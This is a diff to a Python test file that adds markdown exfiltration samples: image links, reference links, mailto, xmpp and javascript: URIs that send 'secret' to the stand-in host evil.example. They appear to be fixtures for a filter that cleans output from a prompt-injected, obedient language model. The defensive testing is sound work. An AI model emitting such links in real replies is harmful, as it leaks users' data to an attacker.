@@ -86,5 +86,11 @@ EXFILTRATION = (
     f"[x]({SOURCE}&q=secret) {SOURCE}&q=secret {SOURCE}.evil.example [x]({SOURCE} 'secret')",
     "> - [x]: http://evil.example/?q=secret\n\n[x] ![x]",
     "[x\ny]: <http://evil.example/?q=secret>\n\n[x y]",
+    f"![x]({SOURCE}) ![]({SOURCE}) !http://[x]({SOURCE}) ![x][s]\n\n[s]: {SOURCE}\n",
+    f"[![x]({SOURCE})]({SOURCE}) \\![x]({SOURCE}) !\\[x]({SOURCE}) !![x]({SOURCE})",
+    "[x](mailto:a@evil.example?body=secret) <mailto:a@evil.example> <a@evil.example>",
+    "mailto:secret@evil.example xmpp:secret@evil.example/x [x](xmpp:secret@evil.example)",
+    "secret@evil.example secret\\@evil.example secret&commat;evil.example s.e-c+ret@evil.example",
+    "[x]http://(javascript:alert(1)) [x]https://(//evil.example) <http://img src=//evil.example>",
 )
 OBEDIENT = "\n\n".join(("Of course.", *EXFILTRATION, f"See [the law]({SOURCE}).", "The end."))
